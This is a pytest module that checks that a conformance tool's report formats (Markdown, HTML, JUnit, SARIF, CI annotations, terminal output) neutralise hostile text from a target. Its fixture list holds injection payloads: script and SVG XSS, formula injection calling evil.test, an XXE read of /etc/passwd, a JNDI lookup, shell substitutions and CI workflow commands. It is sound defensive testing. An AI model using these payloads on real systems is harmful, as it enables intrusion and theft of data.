"""Texts of a target in every place of every format, read by the stock reader of the format."""

import html as html_text
import json
import os
import re
from collections.abc import Iterable
from typing import Any
from unittest.mock import patch
from xml.etree import ElementTree as ET

import junitparser
import pytest
from markdown_it import MarkdownIt
from page_elements import Elements, harmless
from sample_reports import EXCHANGES, OURS, a_report, poisoned

from conformance.http import serialization
from conformance.report import artefacts
from conformance.report.console import terminal
from conformance.report.formats import (
    allure,
    badge,
    ci,
    ctrf,
    earl,
    har,
    html,
    junit,
    markdown,
    sarif,
)

PLAIN = "a plain text of a target"
TEXTS = {
    "GitHub": "::error::owned\n::add-mask::a\r::stop-commands::x%0A::set-output name=a::b",
    "old GitHub": "##[error]owned ##[add-path]/tmp %25%0D%0A##[set-env name=PATH]/tmp",
    "GitLab": "section_start:1:a\r\x1b[0Kowned\nsection_end:1:a\r\x1b[0K",
    "Azure": "##vso[task.setvariable variable=PATH]/tmp",
    "spreadsheet": '=HYPERLINK("http://evil.test","open")\t@SUM(1)\n+1|cmd\' /C calc\'!A0',
    "Markdown": "[x](javascript:1) ![y](http://evil.test/p.png) <b>a</b> | c |\n# big\n- item",
    "mentions": "@everyone #1 owner/name#2 GH-3 http://evil.test www.evil.test a@evil.test",
    "references": "[x]: http://evil.test\n\n[x]\n```\n~~~\n---\n&lt;script&gt; &amp;copy;",
    "HTML": "</title></style></script><script>alert(1)</script><svg/onload=alert(1)>\"' onx=1 ",
    "XML": "]]></failure><failure message='x'/><!-- -- --><?php ?> &#0; &#27; \ufffe\uffff\x0b",
    "terminal": "\x1b]8;;http://evil.test\x07link\x1b]8;;\x07\x1b[2J\x1b[1A\x9b31m\x90q\x9c\x08\x7f\x00",
    "bidi": "\u202eevil\u2066\u2069\u200f\u061c\u200b\u2028\u2029\ufeff\U000e0041",
    "surrogates": "\ud800\udfff\udc00 lone",
    "properties": "a = b\n\\u0000 \\\n! comment\r\ntarget = owned",
    "title": "\x1b]0;owned\x07\x1b]52;c;b3duZWQ=\x07\x1bP+q544e\x1b\\\\\x1b[6n\x1b[?1049h",
    "line ends": "a\x0b::error::b\x0c::notice::c\x1d::debug::d\x85::group::e\u2028::warning::f",
    "annotation": "x,file=../a,line=1,title=owned::::error file=a,line=1,col=2::owned",
    "CSV": '=1+1,@x,-2+3,|cmd\n=cmd|\' /C calc\'!A0;"=1"\t=WEBSERVICE("http://evil.test")',
    "autolinks": "<http://evil.test> <a@evil.test> [^1]: x ``` $a^2$ :smile: <details open> ~~x~~",
    "tables": "| --- | --- |\n| a | b |\r\n\t> quote\n1. one\n* * *\nTitle\n=====\n    code",
    "CDATA": "]]>]]&gt;<![CDATA[<system-out>x</system-out>]]></testcase><testcase name='owned'/>",
    "entities": "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><?x-y?>&b;",
    "attributes": '\' autofocus onfocus=alert(1) x=\'" style="position:fixed" `<base href=//evil>',
    "script data": "<!--<script>-->\u2028</SCRIPT ><iframe srcdoc='<b>1</b>'><meta http-equiv=x>",
    "shell": "'; reboot #' $(reboot) `reboot` \\' !! ${IFS} \"$(id)\" && || > owned \n reboot",
    "TeamCity": "##teamcity[testFailed name='x'] ##VSO[task.setvariable variable=PATH]x ##a1[b]",
    "OSC 8": "\x1b]8;id=1;http://evil.test\x1b\\x\x1b]8;;\x1b\\ \x9d8;;http://e.test\x9cx\x9d8;;\x9c",
    "graphics": "\x1bPq#0;2;0\x1b\\\x1b_Gf=24;A\x1b\\\x1b^p\x1b\\\x1bXs\x1b\\\x1b]1337;File=:A\x07",
    "modes": "\x1b[>4;2m\x1b[?1003h\x1b[5i\x1b[4i\x1bc\x1b(0\x0e\x0f\x05\x85\x8d\x1b[20t",
    "isolates": "\u2067\u2068abc\u2069\u202a\u202b\u202d\u202c\u206a\u2060\u00ad\u034f\u115f\u3164",
    "wide formulas": "\uff1d1+1\t+1 -1 @SUM(1) ;=1;\r=1\n=1 '=1 \ufeff=1 =DDE(1)",
    "suites": "<testsuite name='x' tests='0'/><system-err/><property name='a'/>\x1b]]>",
    "linked data": '{"@context":"http://evil.test","@id":"x"} __proto__ </script> \\u0000',
    "blocks": "- [x] a\n> [!WARNING]\n> x\n<!-- x -->\n```mermaid\ngraph\n```\n$$x$$ :+1: `` ` ``",
    "schemes": "file:///etc/passwd \\\\evil\\share javascript:alert(1) data:text/html,x //e.test",
    "mutations": '<noscript><p title="</noscript><img src=x onerror=x()>"><math><mi//href=x>',
    "quick actions": "/close\n/assign @all\n/label ~x\r\n--- owned\n+++ owned\n~~~ owned\n^^^ +++",
    "templates": "{{ 7 * 7 }} {% include 'x' %} ${jndi:ldap://evil.test} #{7*7} <%= 7 %>",
}
INVISIBLE = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u2028-\u202e\u2066-\u2069\ufeff\ud800-\udfff]"
)


@pytest.fixture(params=TEXTS)
def hostile(request: pytest.FixtureRequest) -> Any:
    """A report with one of these texts wherever a text of a target may be."""
    return reported(TEXTS[request.param])


@pytest.fixture(scope="module")
def benign() -> Any:
    """The same report with a plain text."""
    return reported(PLAIN)


def reported(text: str) -> Any:
    """A report with a text in every place of a target, and the commands that follow from it."""
    report = poisoned(a_report(ledger=[]), text, OURS)
    for entry in report["requirements"]:
        for exchange in (each for found in entry["findings"] for each in found["exchanges"]):
            exchange["curl"] = serialization.curl(exchange["request"])
    return report


def texts(value: Any) -> Iterable[str]:
    """Every string in a JSON document."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for child in value.values():
            yield from texts(child)
    elif isinstance(value, list):
        for child in value:
            yield from texts(child)


def hidden(value: Any) -> list[str]:
    """The strings in a JSON document with a character that shows nothing, or moves others."""
    return [text for text in texts(value) if INVISIBLE.search(text)]


def commands(output: str) -> list[str]:
    """What the runners of GitHub, Azure and TeamCity obey in an output, in lines as of .NET."""
    lines = re.split("\r\n|\r|\n", output)
    found = [
        line.strip()
        for line in lines
        if line.strip().startswith("::") or re.search(r"##\w*\[", line)
    ]
    return [line for line in found if not re.match("::(error|warning) title=[^:]*::", line)]


def test_no_workflow_command_is_in_annotations_and_on_the_terminal(
    hostile: Any, benign: Any
) -> None:
    """The annotations are ours, one line each; the terminal gets no command and no escape."""
    annotations = list(ci.annotations(hostile))
    lines = list(terminal.lines(hostile))

    assert len(annotations) == len(list(ci.annotations(benign))) > 0
    assert commands("\n".join([*annotations, *lines])) == []
    assert hidden([*annotations, *lines]) == []
    assert all(line.splitlines() in ([], [line]) for line in [*annotations, *lines])


def test_markdown_has_no_markup_of_a_target(hostile: Any, benign: Any) -> None:
    """A reader of Markdown makes the same elements as of a plain text."""
    reader = MarkdownIt("commonmark").enable(["table", "strikethrough"])
    rendered = markdown.render(hostile).decode("utf-8", "surrogatepass")

    tags = [tag for tag, _ in Elements(reader.render(rendered)).found]
    plain = [tag for tag, _ in Elements(reader.render(markdown.render(benign).decode())).found]

    assert tags == plain
    assert INVISIBLE.search(rendered) is None
    assert re.search(r"(?<!\\)[@#]\w", rendered) is None


def test_the_finished_markdown_mentions_nobody() -> None:
    """GitHub seeks mentions, issues, addresses and formulas where no escape is left of them."""
    reader = MarkdownIt("commonmark").enable(["table", "strikethrough"])
    texts = (TEXTS["mentions"], TEXTS["autolinks"], "ping @a/b, a#1, gh-2 and $x$")
    finished = reader.render("\n\n".join(map(markdown.escaped, texts)))

    assert re.search(r"[@#]\w|\bGH-\d", html_text.unescape(finished), re.IGNORECASE) is None
    assert not any("$" in markdown.escaped(text) for text in texts)


def test_the_page_has_no_element_of_a_target(hostile: Any) -> None:
    """Only the script of this package runs, and nothing is loaded."""
    exchanges = poisoned(EXCHANGES, hostile["requirements"][0]["findings"][0]["message"])
    page = html.render(hostile, exchanges)

    harmless(page)
    assert not [tag for tag, _ in Elements(page).found if tag in {"svg/onload", "failure", "img"}]
    assert INVISIBLE.search(page) is None


def test_junit_is_well_formed_and_has_its_own_cases_only(hostile: Any, benign: Any) -> None:
    """Two readers of XML accept it; elements and counts are those of a plain text."""
    content = junit.render(hostile)
    plain = ET.fromstring(junit.render(benign))

    assert [element.tag for element in ET.fromstring(content).iter()] == [
        element.tag for element in plain.iter()
    ]
    read = junitparser.JUnitXml.fromstring(content)
    reasons = [result.message for suite in read for case in suite for result in case.result]
    assert hidden(reasons) == []


@pytest.mark.parametrize(
    "render", [ctrf.render, earl.render, sarif.render, ci.code_quality, badge.endpoint]
)
def test_json_documents_have_the_structure_of_a_plain_text(
    render: Any, hostile: Any, benign: Any
) -> None:
    """Keys and lengths are equal, and no text has an invisible character."""
    found, plain = (
        json.loads(render(each).decode("utf-8", "surrogatepass")) for each in (hostile, benign)
    )

    assert structure(found) == structure(plain)
    assert [text for text in hidden(found) if not text.startswith("requirement: ")] == []


def structure(value: Any) -> Any:
    """A JSON document without its texts."""
    if isinstance(value, dict):
        return {name: structure(child) for name, child in value.items()}
    if isinstance(value, list):
        return [structure(child) for child in value]
    return None if isinstance(value, str) else value


def test_allure_results_have_the_files_of_a_plain_text(hostile: Any, benign: Any) -> None:
    """Attachments are plain texts; the rest has nothing invisible."""
    files, plain = dict(allure.render(hostile)), dict(allure.render(benign))
    results = [json.loads(files[name]) for name in files if name.endswith(".json")]
    attached = (
        [
            attachment["type"]
            for result in results
            for step in result.get("steps", [])
            for inner in step["steps"]
            for attachment in inner["attachments"]
        ]
        if all(isinstance(result, dict) for result in results)
        else []
    )

    assert files.keys() == plain.keys()
    assert set(attached) <= {"text/plain"}
    assert hidden([results]) == []
    environment = files["environment.properties"].decode()
    assert len(environment.splitlines()) == len(plain["environment.properties"].splitlines())


def test_no_message_of_sarif_has_an_embedded_link(hostile: Any) -> None:
    """A plain text may have links of the form `[text](address)` (SARIF 2.1.0, 3.11.6)."""
    [run] = json.loads(sarif.render(hostile))["runs"]
    rules = [rule["shortDescription"] for rule in run["tool"]["driver"]["rules"]]
    messages = [result["message"] for result in run["results"]]
    assert messages
    assert [text for text in texts([*rules, *messages]) if "](" in text] == []


def test_an_archive_has_one_entry_for_each_exchange(hostile: Any) -> None:
    """It is raw data: JSON alone protects its texts."""
    message = hostile["requirements"][0]["findings"][0]["message"]
    archive = json.loads(
        har.render(hostile, poisoned(EXCHANGES, message)).decode("utf-8", "surrogatepass")
    )
    assert len(archive["log"]["entries"]) == len(EXCHANGES)


def test_what_is_published_on_github_holds_no_command(hostile: Any, tmp_path: Any) -> None:
    """The lines of the output, with the summary in its file."""
    environ = {"GITHUB_ACTIONS": "true", "GITHUB_STEP_SUMMARY": str(tmp_path / "summary.md")}
    with patch.dict(os.environ, environ):
        lines = list(artefacts.publish(hostile, environ=environ))
    assert commands("\n".join(lines)) == []
    assert INVISIBLE.search((tmp_path / "summary.md").read_bytes().decode()) is None
